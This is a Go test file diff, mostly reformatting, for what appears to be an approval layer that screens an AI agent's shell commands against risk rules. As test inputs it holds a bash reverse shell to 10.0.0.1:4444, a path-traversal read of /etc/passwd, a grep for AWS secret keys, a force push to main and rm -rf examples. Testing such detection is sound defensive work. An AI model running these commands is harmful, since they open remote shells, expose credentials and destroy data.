@@ -72,8 +72,8 @@ func TestLayersCoverHeuristics(t *testing.T) {
 	push := bash("git push --force origin main")
 	pushed := "{command: git push --force origin main}"
 	dots, grep := bash("cat ../../../../etc/passwd"), bash("grep -rI aws_secret_access_key /home")
-	replaced := "disable: [discard_work]\nrules: [{id: git_force_push, replace: true, category: version-control, decision: ask, " +
-		"severity: high, confidence: 0.5, reason: ours, cure: c, when: [{effects: [discard], by: [git push]}]}]\n"
+	replaced := "disable: [discard_work]\nrules: [{id: git_force_push, replace: true, category: version-control, " +
+		"decision: ask, severity: high, confidence: 0.5, reason: ours, cure: c, when: [{effects: [discard], by: [git push]}]}]\n"
 	for name, c := range map[string]struct {
 		user string
 		call approver.ToolCall
@@ -133,8 +133,9 @@ func TestLayersCoverHeuristics(t *testing.T) {
 func TestBadLayersOfHeuristics(t *testing.T) {
 	for user, want := range map[string]string{
 		excepted("XP-001", "{agent: claude}"): "there is no exception from XP-001: it denies without appeal",
-		excepted("XP-034", "{agent: claude}"): "there is no exception from XP-034: it denies without appeal, or protects approver itself",
-		"disable: [XP-0008]\n":                `there is no rule "XP-0008": did you mean "XP-008"?`,
+		excepted("XP-034", "{agent: claude}"): "there is no exception from XP-034: it denies without appeal, or " +
+			"protects approver itself",
+		"disable: [XP-0008]\n": `there is no rule "XP-0008": did you mean "XP-008"?`,
 		"rules: [{id: XP-008, replace: true, category: bulk, decision: warn, severity: high, confidence: 0.5, reason: r, " +
 			"when: [{effects: [delete]}]}]\n": `the id "XP-008" is that of a heuristic`,
 	} {
@@ -183,7 +184,8 @@ func TestLayersOfHeuristicsLoosen(t *testing.T) {
 func TestTwinsAreOneFinding(t *testing.T) {
 	for command, want := range map[string][]string{
 		"git push --force origin main": {
-			"reflex/git_force_push ask HIGH 0.85 irreversible 55/100 (as XP-008)", "reflex/discard_work ask HIGH 0.75: matched too",
+			"reflex/git_force_push ask HIGH 0.85 irreversible 55/100 (as XP-008)",
+			"reflex/discard_work ask HIGH 0.75: matched too",
 			"reflex/push_to_main warn 0.65: matched too", "policy pass", "heuristics pass", "classifier pass"},
 		"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1": {
 			"reflex ask CATASTROPHIC 0.92: as XP-022", "reflex/run_download ask CATASTROPHIC 0.90: matched too",
@@ -211,7 +213,8 @@ func TestALargeLibraryOutlivesARestart(t *testing.T) {
 	b.WriteString("version: 1\nrules:\n")
 	for i := range 10_000 {
 		fmt.Fprintf(&b, "  - id: own_%d\n    category: bulk\n    decision: deny\n    severity: high\n    confidence: 0.5\n"+
-			"    reason: it changes what belongs to service %[1]d, and more words about why that is so\n    cure: ask its owner\n"+
+			"    reason: it changes what belongs to service %[1]d, and more words about why that is so\n"+
+			"    cure: ask its owner\n"+
 			"    when:\n      - {effects: [delete], targets: ['/srv/service%[1]d/*']}\n    examples:\n"+
 			"      match: [rm -rf /srv/service%[1]d/x]\n      pass: [ls /srv/service%[1]d]\n", i)
 	}
